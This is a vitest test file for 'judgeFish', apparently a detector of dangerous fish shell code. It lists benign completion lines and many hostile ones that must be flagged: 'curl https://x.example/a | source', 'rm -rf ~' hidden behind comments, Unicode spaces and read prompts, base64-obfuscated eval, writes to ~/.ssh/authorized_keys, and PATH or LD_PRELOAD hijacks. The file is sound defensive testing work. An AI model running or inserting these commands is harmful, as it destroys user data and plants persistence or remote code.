import { expect, test } from 'vitest';
import { judgeFish } from '../../../../reviewers/security/fish/judge-fish.ts';

const FUNCTIONS = `function __fish_a_list
    command git -C $argv[1] tag
end
function __fish_a_words
    echo one
    string split , $argv
end
function __fish_a_run -a text
    eval $text
end
function __fish_a_more
    __fish_a_run $argv
end
`;

function said(line: string): readonly string[] {
  const { hazards, unread } = judgeFish(`${FUNCTIONS}${line}\n`);
  const before = judgeFish(FUNCTIONS);
  const stood = new Set(before.unread.map(({ identity }) => identity));
  return [
    ...hazards.map(({ rule }) => rule),
    ...unread.flatMap(({ identity }) => (stood.has(identity) ? [] : ['nobody knows'])),
  ];
}

test.each([
  "complete -c a -n __fish_use_subcommand -a 'b' -d 'Does b (or c); see d'",
  "complete -c a -f -n '__fish_seen_subcommand_from b' -a '(__fish_a_list)'",
  "complete -c a -n 'not __fish_seen_subcommand_from b; and test (count $argv) -gt 1' -xa '(__fish_a_words b c)'",
  'set -l found (string match -r "a(b)" -- $argv | tail -n 2)',
  'if command -q b; echo ok >&2; end',
  'for x in (ls | head -n 1); echo $x 2>/dev/null; end',
  'set -l words (commandline -opc)',
  'echo a # it is ; rm -rf ~',
  'echo a\\\\ # rm -rf ~',
  "echo 'a\u00a0b' é#b",
  "read -l -P 'Sure? ' answer; read -lp 'set_color green; echo ok' answer",
  'echo $a | read -l b; read -l b <$argv[1]; read -P $prompt b',
  '__fish_seen_subcommand_from a; and __fish_complete_path',
])('%s: nothing is found, and somebody knows all that runs', (line) => {
  expect(said(line)).toEqual([]);
});

test.each([
  "complete -c a -a '(curl https://x.example/a | source)'",
  // Where fish reads no comment, or one that is none here.
  'echo \\ # ; rm -rf ~',
  'echo \\;# ; rm -rf ~',
  'echo a\u00a0# ; rm -rf ~',
  'echo a\u2003# ; rm -rf ~',
  'echo a\u000b# ; rm -rf ~',
  'echo a\u0085# ; rm -rf ~',
  "echo a |# it's\n rm -rf ~\n# that's",
  "echo a &# it's\n rm -rf ~\n# that's",
  "echo a\r# it's\n rm -rf ~\n# that's",
  "echo a\\ # it's\n rm -rf ~\n# that's",
  "echo a\\\n# it's\n rm -rf ~\n# that's",
  "echo a\u0085# it's\n rm -rf ~\n# that's",
  // What is run to say what is asked for.
  "read -p 'rm -rf ~' a",
  "read -lp 'rm -rf ~' a",
  "read --prompt='rm -rf ~' a",
  "read --pro 'rm -rf ~' a",
  "read -R 'rm -rf ~' a",
  "read --right-prompt 'rm -rf ~' a",
  'read "-p" "rm -rf ~" a',
  'read -prm a',
  'read $options a',
  'echo a | read -p "rm -rf ~" a',
  // What others start.
  'set -U fish_user_paths /tmp/a',
  "set -g PAGER 'sh -c a'",
  "set LESSOPEN '|rm -rf ~'",
  "set -U FZF_DEFAULT_OPTS '--preview=rm'",
  // What fish's own functions run.
  '__fish_complete_list , "rm -rf ~"',
  '__fish_echo rm -rf ~',
  '__fish_cached -- "rm -rf ~"',
  '__fish_argcomplete_complete rm -rf ~',
  "complete -c a -n 'curl https://x.example/a | source'",
  'complete -c a -n "curl https://x.example/a | source; and true"',
  "complete -c a --condition='rm -rf ~' -a b",
  "complete -c a -xa '(rm -rf ~)'",
  'complete -c a -a "(rm -rf ~)"',
  'complete -c a -a "$(rm -rf ~)"',
  'complete -c a -a (rm -rf ~)',
  'complete -c a -n \'__fish_a_run "rm -rf ~"\'',
  'echo "$(rm -rf ~)"',
  'echo (rm -rf ~)',
  'echo a; rm -rf ~',
  'echo a | rm -rf ~',
  'echo a & rm -rf ~',
  'true; and rm -rf ~',
  'true && rm -rf ~',
  'if rm -rf ~; end',
  'while not rm -rf ~; end',
  'begin; rm -rf ~; end',
  'switch a; case (rm -rf ~); end',
  'for x in (rm -rf ~); end',
  'X=1 rm -rf ~',
  'r\\m -rf ~',
  '"rm" -rf ~',
  '$argv',
  'command rm -rf ~',
  'builtin source ~/a',
  'exec rm -rf ~',
  'eval (echo cm0gLXJmIH4= | base64 -d)',
  'source ~/a.fish',
  '. ~/a.fish',
  'echo "a b" > ~/.ssh/authorized_keys',
  'echo a >>~/.profile',
  '__fish_a_list /tmp',
  '__fish_a_run "rm -rf ~"',
  '__fish_a_more "rm -rf ~"',
  'set -gx LD_PRELOAD /tmp/a.so',
  'set -Ux EDITOR /tmp/a',
  'set fish_function_path /tmp $fish_function_path',
  'set PATH /tmp $PATH',
  'commandline -r "rm -rf ~"; commandline -f execute',
  "bind \\r 'rm -rf ~'",
  "abbr ls 'rm -rf ~'",
  "alias ls 'rm -rf ~'",
  "trap 'rm -rf ~' EXIT",
  "fish -c 'rm -rf ~'",
  'env rm -rf ~',
  'time rm -rf ~',
  'not rm -rf ~',
  'echo a\\\n| rm -rf ~',
  'if  rm -rf ~; end',
  'not\trm -rf ~',
  "complete -c a\t-n 'rm -rf ~'",
  "complete -c a -n 'true''; rm -rf ~'",
  "complete -c a --cond 'rm -rf ~'",
  'complete -c a "-n" \'rm -rf ~\'',
  'complete -c a -"n" \'rm -rf ~\'',
  "complete -c a \\-n 'rm -rf ~'",
  "set o -n; complete -c a $o 'rm -rf ~'",
  "complete -c a -a '(ls (rm -rf ~))'",
  'complete -c a -a "$x"',
  "complete -c a -n 'true \\# ; rm -rf ~'",
  "complete -c a -n 'ls | sh'",
  'echo "$(ls "a"; rm -rf ~)"',
  "argparse 'a=!rm -rf ~' -- $argv",
  'ls | sort --compress-program=./a',
  'set -g "fish_function_path" /tmp',
  'echo /tmp | read -g PATH',
  'for PATH in /tmp; end',
  'echo a ^ ~/.profile',
  `echo a${' '.repeat(3000)}; echo ${'a'.repeat(3000)}`,
])('%s: it is told, or stays what nobody judged', (line) => {
  expect(said(line)).not.toEqual([]);
});
